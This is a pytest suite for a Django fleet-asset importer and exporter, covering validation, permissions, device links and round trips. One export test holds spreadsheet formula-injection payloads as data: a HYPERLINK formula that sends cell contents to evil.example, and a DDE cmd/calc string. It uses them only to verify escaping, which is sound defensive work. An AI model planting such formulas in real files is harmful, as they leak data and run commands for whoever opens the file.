import io
import json

import pytest
from django.core.management import CommandError, call_command
from django.db import connection

from assets.models import Asset, AssetDeviceLink, ChangeLogEntry
from tests.factories import grant, make_asset, make_device, make_org, make_type, make_user

HEADER = "key,title,type,license_plate,fuel_capacity_l,tracker,primary_device\n"


@pytest.fixture
def fleet(db):
    org = make_org("translog")
    truck = make_type(org, "delivery_truck", [
        {"code": "license_plate", "field_type": "STRING", "params": {"required": True}},
        {"code": "fuel_capacity_l", "field_type": "NUMBER", "params": {"min": 0}},
        {"code": "tracker", "field_type": "DEVICE"},
    ])
    make_user("ops", superuser=True)
    return org, truck


def run(path_or_text, *args, fmt="csv", tmp_path=None):
    """Runs import_assets on text written to a file; returns (stdout, stderr, error)."""
    path = tmp_path / f"input.{fmt}"
    path.write_text(path_or_text, encoding="utf-8")
    out, err = io.StringIO(), io.StringIO()
    try:
        call_command("import_assets", str(path), "--organization", "translog", *args, stdout=out, stderr=err)
        return out.getvalue(), err.getvalue(), None
    except CommandError as exc:
        return out.getvalue(), err.getvalue(), exc


def test_csv_import_creates_assets_with_devices_and_change_log(fleet, tmp_path):
    org, _ = fleet
    make_device(org, "GPS Unit #117", "IMEI-117")
    text = HEADER + "truck-b-44,Truck B-44,delivery_truck,HH-TL 4421,300,IMEI-117,tracker\ntruck-b-45,Truck B-45,delivery_truck,HH-TL 4422,,,\n"
    out, err, error = run(text, tmp_path=tmp_path)
    assert error is None, err
    assert "2 created, 0 updated, 0 unchanged, 0 failed" in out
    b44 = Asset.objects.get(key="truck-b-44")
    assert b44.custom_fields == {"license_plate": "HH-TL 4421", "fuel_capacity_l": 300, "tracker": b44.device_links.get().device_id}
    assert AssetDeviceLink.objects.get(asset=b44).is_primary
    assert ChangeLogEntry.objects.filter(object_type="asset", action="create").count() == 2


def test_three_bad_rows_are_all_reported_and_nothing_is_written(fleet, tmp_path):
    text = HEADER + (
        "ok-1,Fine,delivery_truck,HH 1,10,,\n"
        "bad-1,No plate,delivery_truck,,10,,\n"
        "bad-2,Bad fuel,delivery_truck,HH 2,lots,,\n"
        "bad 3,Bad key,delivery_truck,HH 3,10,,\n"
    )
    out, err, error = run(text, tmp_path=tmp_path)
    assert error is not None and error.returncode == 1
    assert "line 3: license_plate: is required" in err
    assert "line 4: fuel_capacity_l: must be a number" in err
    assert "line 5: key:" in err
    assert "3 failed" in out and "nothing written" in out
    assert not Asset.objects.exists()


def test_continue_on_error_writes_only_the_good_rows(fleet, tmp_path):
    text = HEADER + "ok-1,Fine,delivery_truck,HH 1,10,,\nbad-1,Neg,delivery_truck,HH 2,-5,,\nok-2,Fine 2,delivery_truck,HH 3,,,\n"
    out, err, error = run(text, "--continue-on-error", tmp_path=tmp_path)
    assert error is not None
    assert "line 3: fuel_capacity_l: must be at least 0" in err
    assert sorted(Asset.objects.values_list("key", flat=True)) == ["ok-1", "ok-2"]


def test_existing_key_is_an_error_without_update_and_upserted_with_it(fleet, tmp_path):
    org, truck = fleet
    make_asset(org, truck, "Old title", key="truck-1", custom_fields={"license_plate": "OLD"})
    text = HEADER + "truck-1,New title,delivery_truck,NEW,,,\ntruck-2,Second,delivery_truck,HH 2,,,\n"
    _, err, error = run(text, tmp_path=tmp_path)
    assert error is not None and "line 2: key: an asset with key 'truck-1' exists" in err
    out, err, error = run(text, "--update", tmp_path=tmp_path)
    assert error is None, err
    assert "1 created, 1 updated, 0 unchanged" in out
    truck1 = Asset.objects.get(key="truck-1")
    assert (truck1.title, truck1.custom_fields, truck1.version) == ("New title", {"license_plate": "NEW"}, 2)
    out, _, _ = run(text, "--update", tmp_path=tmp_path)
    assert "0 created, 0 updated, 2 unchanged" in out


def test_dry_run_validates_everything_and_writes_nothing(fleet, tmp_path):
    out, _, error = run(HEADER + "t-1,T,delivery_truck,HH,,,\n", "--dry-run", tmp_path=tmp_path)
    assert error is None
    assert "1 created" in out and "dry run" in out
    assert not Asset.objects.exists()


def test_devices_can_not_be_claimed_twice(fleet, tmp_path):
    org, truck = fleet
    device = make_device(org, "GPS", "IMEI-1")
    holder = make_asset(org, truck, key="holder", custom_fields={"license_plate": "X", "tracker": device.pk})
    AssetDeviceLink.objects.create(asset=holder, device=device, field_code="tracker")
    make_device(org, "GPS 2", "IMEI-2")
    text = HEADER + "a,A,delivery_truck,P,,IMEI-1,\nb,B,delivery_truck,P,,IMEI-2,\nc,C,delivery_truck,P,,IMEI-2,\nd,D,delivery_truck,P,,IMEI-9,\n"
    _, err, error = run(text, tmp_path=tmp_path)
    assert error is not None
    assert "line 2: tracker: device 'IMEI-1' is already linked to another asset" in err
    assert "line 4: tracker: device 'IMEI-2' is also used on line 3" in err
    assert "line 5: tracker: no device 'IMEI-9' in this organization" in err


def test_round_trip_export_import_is_unchanged(fleet, tmp_path):
    org, truck = fleet
    device = make_device(org, "GPS", "IMEI-1")
    run(HEADER + "a,Truck A,delivery_truck,HH 1,12.5,IMEI-1,tracker\nb,Truck \"B\",delivery_truck,\"HH, 2\",,,\n", tmp_path=tmp_path)
    assert AssetDeviceLink.objects.get(device=device).is_primary
    for fmt in ("csv", "jsonl", "json"):
        target = tmp_path / f"export.{fmt}"
        call_command("export_assets", str(target), "--organization", "translog", stdout=io.StringIO())
        before = list(Asset.objects.order_by("key").values_list("key", "title", "custom_fields", "version"))
        out = io.StringIO()
        call_command("import_assets", str(target), "--organization", "translog", "--update", stdout=out, stderr=io.StringIO())
        assert "0 created, 0 updated, 2 unchanged, 0 failed" in out.getvalue(), fmt
        assert list(Asset.objects.order_by("key").values_list("key", "title", "custom_fields", "version")) == before


def test_json_formats_report_lines_and_bad_json(fleet, tmp_path):
    records = [
        {"key": "a", "title": "A", "type": "delivery_truck", "license_plate": "P"},
        {"key": "b", "title": "B", "type": "no_such_type"},
    ]
    text = "[\n" + ",\n".join(json.dumps(r) for r in records) + "\n]\n"
    _, err, error = run(text, fmt="json", tmp_path=tmp_path)
    assert error is not None and "line 3: type: unknown type 'no_such_type'" in err
    _, err, error = run('{"key": "a", "title": "A", "type": "delivery_truck", "license_plate": "P"}\n{not json\n', fmt="jsonl", tmp_path=tmp_path)
    assert error is not None and "line 2: invalid JSON" in err
    assert not Asset.objects.exists()


def test_import_runs_as_a_named_user_and_cannot_touch_what_they_cannot_change(fleet, tmp_path):
    org, truck = fleet
    clerk = make_user("clerk")
    grant(clerk, "view_org_assets", org)
    make_asset(org, truck, key="locked", custom_fields={"license_plate": "L"})
    _, err, error = run(HEADER + "locked,Changed,delivery_truck,L,,,\n", "--update", "--user", "clerk", tmp_path=tmp_path)
    assert error is not None and "line 2: key: the asset 'locked' exists and you may not change it" in err
    _, err, error = run(HEADER + "fresh,New,delivery_truck,L,,,\n", "--user", "clerk", tmp_path=tmp_path)
    assert error is not None and "creating assets needs change_org_assets" in err
    grant(clerk, "change_org_assets", org)
    _, err, error = run(HEADER + "locked,Changed,delivery_truck,L,,,\n", "--update", "--user", "clerk", tmp_path=tmp_path)
    assert error is None, err
    assert Asset.objects.get(key="locked").title == "Changed"


def test_an_update_attaches_only_devices_the_user_may_view(fleet, tmp_path):
    """Issue 13 #6 on the importer's path: a device of the organization the clerk can't see reads
    like a missing one, linked elsewhere or not; one they can see is attached."""
    org, truck = fleet
    mine = make_asset(org, truck, key="mine", custom_fields={"license_plate": "M"})
    hidden_owner = make_asset(org, truck, key="hidden-owner", custom_fields={"license_plate": "H"})
    AssetDeviceLink.objects.create(asset=hidden_owner, device=make_device(org, "Linked", "IMEI-LINKED"), field_code="tracker")
    make_device(org, "Loose", "IMEI-LOOSE")
    clerk = make_user("clerk")
    grant(clerk, "change_asset", mine)
    answers = []
    for identifier in ("IMEI-LINKED", "IMEI-LOOSE", "IMEI-NONE"):
        _, err, error = run(HEADER + f"mine,Mine,delivery_truck,M,,{identifier},\n", "--update", "--user", "clerk",
                            tmp_path=tmp_path)
        assert error is not None
        answers.append(err.replace(identifier, "<id>"))
    assert answers[0] == answers[1] == answers[2]
    assert "line 2: tracker: no device '<id>' in this organization" in answers[0]
    assert not AssetDeviceLink.objects.filter(asset=mine).exists()
    grant(clerk, "view_org_assets", org)  # an organization-wide grant shows its devices
    _, err, error = run(HEADER + "mine,Mine,delivery_truck,M,,IMEI-LOOSE,\n", "--update", "--user", "clerk", tmp_path=tmp_path)
    assert error is None, err
    assert AssetDeviceLink.objects.get(asset=mine).device.identifier == "IMEI-LOOSE"


def test_a_concurrent_writer_taking_a_key_ends_the_import_cleanly(fleet, tmp_path):
    """Validation reads the stored keys first; if another writer takes one before the bulk
    INSERT, the unique constraint stops the write and the command says so instead of crashing."""
    from django.db import IntegrityError

    from assets.management.commands.import_assets import Command

    def importer(*args, **kwargs):
        raise IntegrityError("duplicate key value violates unique constraint")

    path = tmp_path / "input.csv"
    path.write_text(HEADER, encoding="utf-8")
    command = Command(stdout=io.StringIO(), stderr=io.StringIO())
    options = {"user": None, "organization": "translog", "path": str(path), "format": None}
    with pytest.raises(CommandError, match="the data changed while importing"):
        command.run_import(importer, options)



def reltuples(table: str) -> float:
    with connection.cursor() as cursor:
        cursor.execute("SELECT reltuples FROM pg_class WHERE relname = %s", [table])
        return cursor.fetchone()[0]


@pytest.mark.skipif(connection.vendor != "postgresql", reason="planner statistics are PostgreSQL's")
def test_a_large_import_refreshes_the_planner_statistics(fleet, tmp_path):
    rows = "".join(f"t-{n},Truck {n},delivery_truck,HH {n},,,\n" for n in range(1200))
    out, err, error = run(HEADER + rows, tmp_path=tmp_path)
    assert error is None, err
    assert reltuples("assets_asset") == Asset.objects.count() == 1200


def test_only_a_large_import_asks_for_statistics(fleet, tmp_path, monkeypatch):
    from assets.transfer import command

    analyzed = []
    monkeypatch.setattr(command, "analyze", analyzed.append)
    run(HEADER + "t-1,Truck 1,delivery_truck,HH 1,,,\n", tmp_path=tmp_path)
    assert analyzed == []
    run(HEADER + "".join(f"u-{n},Truck {n},delivery_truck,HH {n},,,\n" for n in range(1000)), tmp_path=tmp_path)
    assert [[model._meta.db_table for model in tables] for tables in analyzed] == [
        ["assets_asset", "assets_assetdevicelink", "assets_changelogentry"]
    ]


def test_a_misspelled_column_is_a_file_error_and_clears_nothing(fleet, tmp_path):
    org, truck = fleet
    make_asset(org, truck, "T", key="truck-1", custom_fields={"license_plate": "HH 1", "fuel_capacity_l": 300})
    text = "key,title,type,license_plate,fuel_capcity_l\ntruck-1,T,delivery_truck,HH 1,300\n"
    out, err, error = run(text, "--update", tmp_path=tmp_path)
    assert error is not None and "'fuel_capcity_l' is not a column of any asset type" in str(error)
    assert Asset.objects.get(key="truck-1").custom_fields == {"license_plate": "HH 1", "fuel_capacity_l": 300}


def test_a_column_of_another_type_is_skipped_in_a_mixed_file(fleet, tmp_path):
    org, _ = fleet
    make_type(org, "van", [{"code": "seats", "field_type": "INTEGER"}])
    text = "key,title,type,license_plate,seats\ntruck-1,T,delivery_truck,HH 1,\nvan-1,V,van,,9\n"
    out, err, error = run(text, tmp_path=tmp_path)
    assert error is None, err
    assert Asset.objects.get(key="van-1").custom_fields == {"seats": 9}
    assert Asset.objects.get(key="truck-1").custom_fields == {"license_plate": "HH 1"}


def test_large_csv_integers_keep_their_precision(fleet, tmp_path):
    org, _ = fleet
    make_type(org, "meter", [{"code": "reading", "field_type": "INTEGER"}])
    text = "key,title,type,reading\nm-1,M,meter,9007199254740993\nm-2,M,meter,12.0\nm-3,M,meter,nan\n"
    out, err, error = run(text, "--continue-on-error", tmp_path=tmp_path)
    assert "line 4: reading:" in err
    assert Asset.objects.get(key="m-1").custom_fields == {"reading": 9007199254740993}
    assert Asset.objects.get(key="m-2").custom_fields == {"reading": 12}


def test_malformed_json_values_are_row_errors(fleet, tmp_path):
    lines = [
        {"key": "t-1", "title": "T", "type": "delivery_truck", "license_plate": "A", "primary_device": ["tracker"]},
        "[" * 100_000,
        '{"key": "t-3", "title": "T", "type": "delivery_truck", "license_plate": "A", "fuel_capacity_l": ' + "9" * 5000 + "}",
        '{"key": "t-4", "title": "T", "type": "delivery_truck", "license_plate": "A", "fuel_capacity_l": NaN}',
        '{"key": "t-5", "title": "T", "type": "delivery_truck", "license_plate": "A", "fuel_capacity_l": Infinity}',
        {"key": "t-6", "title": "T", "type": "delivery_truck", "license_plate": "A"},
    ]
    text = "".join((json.dumps(line) if isinstance(line, dict) else line) + "\n" for line in lines)
    out, err, error = run(text, "--continue-on-error", fmt="jsonl", tmp_path=tmp_path)
    assert error is not None
    assert "line 1: primary_device: must be the code of a DEVICE field" in err
    assert "line 2: invalid JSON: nested too deeply" in err
    assert "line 3: invalid JSON: a number has more than 100 digits" in err
    assert "line 4: invalid JSON: NaN is not a valid JSON number" in err
    assert "line 5: invalid JSON: Infinity is not a valid JSON number" in err
    assert "5 failed" in out
    assert list(Asset.objects.values_list("key", flat=True)) == ["t-6"]


def test_malformed_numbers_in_a_json_array_are_format_errors(fleet, tmp_path):
    for value in ("9" * 5000, "NaN", "[" * 100_000):
        text = '[\n{"key": "t-1", "title": "T", "type": "delivery_truck", "license_plate": "A", "fuel_capacity_l": ' + value + "}\n]\n"
        _, _, error = run(text, fmt="json", tmp_path=tmp_path)
        assert error is not None and "line 2: invalid JSON" in str(error), value
    assert not Asset.objects.exists()


def test_csv_json_cells_reject_nan(fleet, tmp_path):
    org, _ = fleet
    make_type(org, "box", [{"code": "meta", "field_type": "JSON"}])
    # Not JSON, so the cell is kept as the text it is (a JSON field takes any JSON value).
    _, err, error = run('key,title,type,meta\nb-1,B,box,"{""a"": NaN}"\n', tmp_path=tmp_path)
    assert error is None, err
    assert Asset.objects.get(key="b-1").custom_fields == {"meta": '{"a": NaN}'}


def test_continue_on_error_with_a_reference_to_a_failed_row(fleet, tmp_path):
    org, _ = fleet
    make_type(org, "trailer", [
        {"code": "plate", "field_type": "STRING", "params": {"required": True}},
        {"code": "towed_by", "field_type": "ASSET"},
    ])
    text = (
        "key,title,type,plate,towed_by\n"
        "tr-1,Bad,trailer,,\n"           # fails: plate is required
        "tr-2,Refs bad,trailer,P2,tr-1\n"
        "tr-3,Refs tr-2,trailer,P3,tr-2\n"
        "tr-4,Fine,trailer,P4,\n"
        "tr-5,Refs fine,trailer,P5,tr-4\n"
    )
    out, err, error = run(text, "--continue-on-error", tmp_path=tmp_path)
    assert error is not None
    assert "line 2: plate: is required" in err
    assert "line 3: towed_by: the asset 'tr-1' of this file was not imported" in err
    assert "line 4: towed_by: the asset 'tr-2' of this file was not imported" in err
    assert "2 created" in out and "3 failed" in out
    assert sorted(Asset.objects.values_list("key", flat=True)) == ["tr-4", "tr-5"]
    tr4 = Asset.objects.get(key="tr-4")
    assert Asset.objects.get(key="tr-5").custom_fields["towed_by"] == tr4.pk


def test_csv_export_escapes_formula_cells_and_the_import_restores_them(fleet, tmp_path):
    """Text a spreadsheet would run gets a leading quote in the CSV; numbers stay numbers; the
    importer strips the quote again, so the export re-imports unchanged."""
    org, truck = fleet
    written = {  # value -> its CSV cell
        '=HYPERLINK("http://evil.example/?"&A1,"open")': '\'=HYPERLINK("http://evil.example/?"&A1,"open")',
        "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0", "-2+3": "'-2+3", "@SUM(A1)": "'@SUM(A1)",
        "\tTabbed": "'\tTabbed", "\rReturn": "'\rReturn", "-": "'-",
        "'=already quoted": "''=already quoted", "'plain quote": "'plain quote", "-12.5": "-12.5",
    }
    for n, text in enumerate(written):
        # Titles are stripped by the services, so leading whitespace goes in the STRING field only.
        title = f"Asset {n}" if text[0] in "\t\r" else text
        make_asset(org, truck, title, key=f"f{n}", custom_fields={"license_plate": text, "fuel_capacity_l": 12.5})
    target = tmp_path / "export.csv"
    call_command("export_assets", str(target), "--organization", "translog", stdout=io.StringIO())
    import csv

    with open(target, newline="", encoding="utf-8") as stream:
        rows = {row["key"]: row for row in csv.DictReader(stream)}
    for n, (text, cell) in enumerate(written.items()):
        assert rows[f"f{n}"]["license_plate"] == cell
        assert rows[f"f{n}"]["title"] == (f"Asset {n}" if text[0] in "\t\r" else cell)
        assert rows[f"f{n}"]["fuel_capacity_l"] == "12.5"
    before = list(Asset.objects.order_by("key").values_list("key", "title", "custom_fields", "version"))
    out, err = io.StringIO(), io.StringIO()
    try:
        call_command("import_assets", str(target), "--organization", "translog", "--update", stdout=out, stderr=err)
    except CommandError as exc:
        raise AssertionError(err.getvalue()) from exc
    assert list(Asset.objects.order_by("key").values_list("key", "title", "custom_fields", "version")) == before
    assert f"0 created, 0 updated, {len(written)} unchanged, 0 failed" in out.getvalue()


def test_export_names_no_asset_the_user_may_not_view_and_reimport_keeps_the_reference(fleet, tmp_path):
    org, _ = fleet
    combo = make_type(org, "combo", [{"code": "trailer", "field_type": "ASSET"}, {"code": "note", "field_type": "STRING"}])
    secret = make_asset(org, combo, key="secret-trailer")
    seen = make_asset(org, combo, key="seen-trailer")
    puller = make_asset(org, combo, key="puller", custom_fields={"trailer": secret.pk, "note": "n"})
    other = make_asset(org, combo, key="other", custom_fields={"trailer": seen.pk})
    clerk = make_user("clerk")
    for asset in (puller, other, seen):
        grant(clerk, "change_asset", asset)
    target = tmp_path / "out.csv"
    call_command("export_assets", str(target), "--organization", "translog", "--user", "clerk", stdout=io.StringIO())
    text = target.read_text(encoding="utf-8")
    assert "secret-trailer" not in text
    assert "seen-trailer" in text
    out, err, error = run(text, "--update", "--user", "clerk", tmp_path=tmp_path)
    assert error is None, err
    assert "0 created, 0 updated, 3 unchanged" in out
    puller.refresh_from_db()
    assert puller.custom_fields == {"trailer": secret.pk, "note": "n"} and puller.version == 1


def _stored_text(table: str, column: str, pk: int) -> str:
    with connection.cursor() as cursor:
        cursor.execute(f"SELECT {column} FROM {table} WHERE id = %s", [pk])
        return cursor.fetchone()[0]


def test_the_change_log_of_an_import_holds_what_a_single_write_would(fleet, tmp_path):
    """The importer encodes each row's custom fields once and splices that text into the entry's
    `after`: the entries must read (and on SQLite be stored) exactly as the ORM writes them."""
    org, _ = fleet
    make_type(org, "trailer", [{"code": "towed_by", "field_type": "ASSET"}])
    device = make_device(org, "GPS Unit #9", "IMEI-9")
    text = ("key,title,type,license_plate,fuel_capacity_l,tracker,primary_device,towed_by\n"
            'truck-u,"Lkw ""Nord"" Müller",delivery_truck,HH-Ä 1,12.5,IMEI-9,tracker,\n'
            "trailer-1,Trailer \\ 1,trailer,,,,,truck-u\n")
    out, err, error = run(text, tmp_path=tmp_path)
    assert error is None, err
    truck, trailer = Asset.objects.get(key="truck-u"), Asset.objects.get(key="trailer-1")
    expected = {
        truck.pk: {"organization_id": org.pk, "type_id": truck.type_id, "key": "truck-u", "title": 'Lkw "Nord" Müller',
                   "custom_fields": {"license_plate": "HH-Ä 1", "fuel_capacity_l": 12.5, "tracker": device.pk},
                   "primary_device_field": "tracker"},
        trailer.pk: {"organization_id": org.pk, "type_id": trailer.type_id, "key": "trailer-1", "title": "Trailer \\ 1",
                     "custom_fields": {"towed_by": truck.pk}, "primary_device_field": None},
    }
    after_field = ChangeLogEntry._meta.get_field("after")
    for entry in ChangeLogEntry.objects.filter(object_type="asset", action="create"):
        assert entry.after == expected[entry.object_id]
        if connection.vendor == "sqlite":  # jsonb keeps neither the text nor the key order
            stored = _stored_text("assets_changelogentry", "after", entry.pk)
            assert stored == after_field.get_db_prep_save(expected[entry.object_id], connection)


@pytest.mark.skipif(connection.vendor != "sqlite", reason="jsonb keeps no text of its own")
def test_imported_custom_fields_are_stored_as_text_the_api_would_store(fleet, tmp_path):
    """Asset.custom_fields keeps non-ASCII characters unescaped (UnicodeJSONEncoder), so that
    SQLite's text searches see them; an import stores the same text as the ORM."""
    run(HEADER + "truck-1,Truck,delivery_truck,HH-Ä 1,,,\ntruck-2,Truck,delivery_truck,HH-A 2,,,\n", tmp_path=tmp_path)
    field = Asset._meta.get_field("custom_fields")
    for asset in Asset.objects.all():
        assert _stored_text("assets_asset", "custom_fields", asset.pk) == field.get_db_prep_save(
            asset.custom_fields, connection)
    assert "HH-Ä 1" in _stored_text("assets_asset", "custom_fields", Asset.objects.get(key="truck-1").pk)
